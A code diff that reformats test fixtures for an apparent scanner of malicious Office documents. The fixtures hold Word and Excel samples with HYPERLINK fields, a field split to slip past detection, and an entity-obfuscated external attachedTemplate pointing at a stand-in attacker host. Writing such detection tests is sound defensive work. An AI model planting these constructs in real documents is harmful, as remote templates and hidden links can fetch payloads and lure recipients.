@@ -84,7 +84,10 @@ LEADS: dict[str, bytes] = {
         **{"word/document__xml": f'<w:instrText> HYPERLINK "{EVIL}" </w:instrText>'.encode()}
     ),
     "document, a field in pieces": samples.docx(
-        **{"word/header1__xml": f"<w:instrText> HYPER</w:instrText><w:instrText>LINK &quot;{EVIL}&quot;</w:instrText>".encode()}
+        **{
+            "word/header1__xml": b"<w:instrText> HYPER</w:instrText>"
+            + f"<w:instrText>LINK &quot;{EVIL}&quot;</w:instrText>".encode()
+        }
     ),
     "table, a formula": samples.xlsx(
         **{"xl/worksheets/sheet1__xml": f'<c><f>HYPERLINK("{EVIL}","Voir")</f></c>'.encode()}
@@ -116,8 +119,8 @@ HELD: dict[str, tuple[bytes, str]] = {
     "template in another spelling": (
         samples.docx(
             **{
-                "word/_rels/settings__xml__rels": f"<Relationship TargetMode = 'External' Target = '&#104;ttps:{EVIL[6:]}'"
-                f" Type='{OFFICE}attachedTemplate'/>".encode()
+                "word/_rels/settings__xml__rels": f"<Relationship TargetMode = 'External'"
+                f" Target = '&#104;ttps:{EVIL[6:]}' Type='{OFFICE}attachedTemplate'/>".encode()
             }
         ),
         kinds.MALWARE,
